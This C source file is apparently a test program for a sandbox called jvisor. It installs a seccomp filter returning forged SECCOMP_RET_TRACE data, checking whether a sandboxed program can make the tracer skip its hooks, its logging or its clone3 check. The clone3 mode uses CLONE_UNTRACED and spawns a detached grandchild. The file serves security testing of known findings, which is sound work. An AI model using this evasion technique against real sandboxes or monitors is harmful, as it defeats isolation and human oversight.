/* esc_forge: the program installs a seccomp filter of its own that returns
 * SECCOMP_RET_TRACE with jvisor's RET_DATA values, trying to make jvisor
 * skip its hooks, its log or its clone3 check (issue 13, findings 1 and 2).
 *   esc_forge open DATA PATH   RET_TRACE|DATA on openat, then open PATH
 *   esc_forge clone3 DATA FILE RET_TRACE|DATA on clone3, then clone3 with
 *                              CLONE_UNTRACED; the child forks a grandchild
 *                              that writes its pid to FILE and sleeps 30 s
 *   esc_forge getppid DATA     RET_TRACE|DATA on getppid (jvisor traps nothing)
 * Prints "RESULT ret errno". */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void install(int nr, unsigned data)
{
	struct sock_filter f[] = {
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)nr, 0, 1),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | (data & SECCOMP_RET_DATA)),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog p = {sizeof(f) / sizeof(f[0]), f};
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &p) < 0) {
		perror("seccomp");
		exit(2);
	}
}

int main(int argc, char **argv)
{
	if (argc < 3)
		return 2;
	unsigned data = (unsigned)strtoul(argv[2], NULL, 0);
	long r;
	if (!strcmp(argv[1], "open") && argc == 4) {
		install(SYS_openat, data);
		r = syscall(SYS_openat, AT_FDCWD, argv[3], O_RDONLY);
	} else if (!strcmp(argv[1], "getppid")) {
		install(SYS_getppid, data);
		r = syscall(SYS_getppid);
	} else if (!strcmp(argv[1], "clone3") && argc == 4) {
		install(SYS_clone3, data);
		struct clone_args ca = {.flags = CLONE_UNTRACED, .exit_signal = SIGCHLD};
		r = syscall(SYS_clone3, &ca, sizeof(ca));
		if (r == 0) {
			if (fork() == 0) {
				setsid();
				FILE *f = fopen(argv[3], "w");
				if (f) {
					fprintf(f, "%d\n", (int)getpid());
					fclose(f);
				}
				sleep(30);
				_exit(0);
			}
			_exit(0);
		}
		if (r > 0)
			waitpid((pid_t)r, NULL, 0);
	} else {
		return 2;
	}
	printf("RESULT %ld %d\n", r, r < 0 ? errno : 0);
	return 0;
}
